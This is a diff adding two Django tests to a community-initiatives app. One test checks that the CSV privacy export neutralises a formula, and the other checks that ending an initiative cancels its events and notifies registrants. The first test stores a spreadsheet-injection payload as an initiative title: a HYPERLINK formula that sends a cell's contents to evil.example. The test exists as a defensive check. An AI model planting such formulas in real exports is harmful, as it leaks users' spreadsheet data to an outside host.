@@ -67,3 +67,40 @@ def test_export_names_every_community_row_and_erasure_frees_what_was_theirs(worl
     assert not Follow.objects.filter(person=world.starter).exists()
     assert not PersonalFeed.objects.exists() and not JuryMember.objects.exists()
     assert SupportRequest.objects.get().submitted_by is None and SupportRequest.objects.get().message == ""
+
+
+def test_a_formula_typed_by_someone_else_is_plain_text_in_a_persons_csv(world: World) -> None:
+    from apps.access.privacy import export_as_csv
+
+    other = Initiative.objects.create(
+        title='=HYPERLINK("https://evil.example/?"&A1;"Klik")', summary="x", organiser="residents",
+        audience=["everyone"], district=world.district, starter=world.resident, status="published",
+        commitment_signed_at=timezone.now(),
+    )  # fmt: skip
+    Follow.objects.create(initiative=other, person=world.starter)
+    text = export_as_csv(export_person(world.starter))
+    assert "'=HYPERLINK" in text and ',=HYPERLINK' not in text and '"=HYPERLINK' not in text
+
+
+def test_ending_an_initiative_cancels_its_events_and_tells_who_registered(world: World) -> None:
+    from django.core import mail
+
+    from apps.access.actors import actor_for_user
+    from apps.community import services
+
+    mine = Initiative.objects.create(
+        title="Taalcafé", summary="x", organiser="residents", audience=["everyone"], district=world.district,
+        starter=world.starter, status="published", commitment_signed_at=timezone.now(),
+    )  # fmt: skip
+    event = Event.objects.create(uid="end@example.org", title="Taalcafé", initiative=mine, district=world.district,
+                                 starts_on=timezone.localdate() + timedelta(days=3), start_time=time(14),
+                                 duration_minutes=60, capacity=5)  # fmt: skip
+    Registration.objects.create(event=event, occurs_on=event.starts_on, person=world.resident)
+    mail.outbox.clear()
+    services.initiative_end(actor=actor_for_user(world.starter.user), initiative=mine)
+    event.refresh_from_db()
+    assert (event.status, event.sequence) == ("cancelled", 1)
+    assert Registration.objects.get().status == "cancelled"
+    assert [m.to for m in mail.outbox] == [[world.resident.email]]
+    feed = world.client("anonymous").get(f"/nl/feeds/district/{world.district.number}.ics").content.decode()
+    assert "UID:end@example.org" in feed and "STATUS:CANCELLED" in feed  # calendars take it away
